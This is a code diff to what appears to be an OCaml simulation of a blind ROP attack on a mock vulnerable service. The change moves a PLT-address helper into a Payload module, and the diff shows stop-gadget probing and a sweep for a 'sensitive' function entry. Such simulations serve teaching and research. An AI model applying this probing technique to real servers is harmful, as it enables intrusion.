@@ -43,13 +43,6 @@ let default_attack =
 
 type attack_report = { probes : int; note : string; compromised : bool }
 
-let plt_addr_of name_wanted =
-  let rec idx i = function
-    | [] -> 0
-    | n :: tl -> if n = name_wanted then i else idx (i + 1) tl
-  in
-  Addr.text_base + (16 * idx 0 Image.builtin_names)
-
 let blind_rop_pool ~pool ~legit ~(cfg : attack_cfg) () =
   let compromised () =
     List.exists (fun (rdi, _) -> rdi = Vulnapp.marker) (Pool.sensitive_log pool)
@@ -119,7 +112,7 @@ let blind_rop_pool ~pool ~legit ~(cfg : attack_cfg) () =
   (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
      produces one extra response line iff the word is the return address
      (both probes crash; the information is in the output seen first). *)
-  let stop_plt = plt_addr_of "print_int" in
+  let stop_plt = Payload.plt_addr_of "print_int" in
   let ra_here () =
     let base = Buffer.contents filler in
     match probe (base ^ Payload.le64 stop_plt) with
@@ -135,7 +128,7 @@ let blind_rop_pool ~pool ~legit ~(cfg : attack_cfg) () =
      non-PIE binary. *)
   let sweep () =
     let base = Buffer.contents filler in
-    let sensitive = plt_addr_of "sensitive" in
+    let sensitive = Payload.plt_addr_of "sensitive" in
     let start = Addr.text_base + (16 * List.length Image.builtin_names) in
     let addr = ref start in
     let quiet = ref 0 in
